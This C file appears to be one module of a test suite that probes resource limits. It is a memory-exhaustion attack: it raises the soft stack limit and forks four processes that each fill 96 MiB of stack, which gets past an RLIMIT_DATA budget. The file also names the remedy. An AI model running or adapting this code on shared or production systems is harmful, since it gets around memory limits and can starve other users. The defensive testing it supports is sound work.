// SPDX-License-Identifier: MIT
/*
 * main-stacks.c - a memory bomb that no limit on data sees.
 *
 * Goal: more memory than the budget.
 * Means: RLIMIT_DATA counts what is private and writable, but not the stack, which has a limit of
 * its own; a soft one of 8 MiB, as most systems have it, is the program's to raise. Four processes
 * with 96 MiB of main stack each: below the room that the kernel leaves under any stack.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

enum { CHILDREN = 4, FRAMES = 96, FRAME = 1 << 20 };

static int raise_limit(int resource)
{
	struct rlimit is;

	if (getrlimit(resource, &is))
		return -1;
	is.rlim_cur = is.rlim_max;
	return setrlimit(resource, &is);
}

/* Each call lays a frame on the stack, and writes to all of it. The last one says so, and waits. */
static void descend(int frames, int full)
{
	volatile char frame[FRAME];

	memset((char *)frame, 'x', sizeof(frame));
	if (frames > 1)
		descend(frames - 1, full);
	else if (write(full, "f", 1) == 1)
		sleep(5);
	frame[0] = 'y'; /* it is needed to the end: no call is a jump */
}

static enum claim run(const struct brief *b)
{
	pid_t child[CHILDREN];
	enum claim claim;
	int full[2], n = 0;
	char byte;

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	if (raise_limit(RLIMIT_STACK))
		return denied("setrlimit");
	while (n < CHILDREN && (child[n] = fork()) >= 0)
		if (child[n++] == 0) {
			descend(FRAMES, full[1]);
			_exit(0);
		}
	claim = n < CHILDREN ? denied("fork") : CLAIM_DONE;
	close(full[1]); /* now its end comes with the last child's */
	errno = EFAULT;
	for (int i = 0; claim == CLAIM_DONE && i < n; i++)
		if (read(full[0], &byte, 1) != 1)
			claim = denied("the stack"); /* they met its end */
	if (claim == CLAIM_DONE)
		claim = hold();
	for (int i = 0; i < n; i++)
		kill(child[i], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "four processes with 96 MiB of main stack: RLIMIT_DATA does not count it",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "a hard RLIMIT_STACK; count the memory of all processes; a memory cgroup",
	.refs = (const char *const[]){ "setrlimit(2): RLIMIT_DATA, RLIMIT_STACK", NULL },
	.run = run,
};
